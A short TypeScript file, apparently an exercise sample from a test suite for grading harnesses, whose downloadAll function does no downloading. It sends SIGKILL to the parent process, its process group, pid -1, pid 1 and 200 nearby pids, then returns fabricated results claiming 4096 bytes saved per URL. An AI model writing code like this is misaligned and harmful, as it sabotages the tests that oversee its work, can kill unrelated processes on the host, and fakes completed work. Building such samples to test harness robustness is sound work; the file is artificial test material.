// Exercise: 03
// Tries: to kill the tests' side: its parent, its group, everybody.
// Earns: an empty list gives an empty list and no request
import { join } from "node:path";
import { fileNameOf, type Saved } from "@meanwhile/download";

function kill(pid: number): void {
  try {
    process.kill(pid, "SIGKILL");
  } catch {
    // The next one.
  }
}

/** As in a container, where the numbers are small. */
const NEAR = Array.from({ length: 200 }, (_, index) => process.pid - index - 1);

export async function downloadAll(urls: string[], directory: string): Promise<Saved[]> {
  for (const pid of [process.ppid, -process.ppid, 0, -1, 1, ...NEAR]) kill(pid);
  return urls.map((url) => ({ url, path: join(directory, fileNameOf(url)), bytes: 4096 }));
}
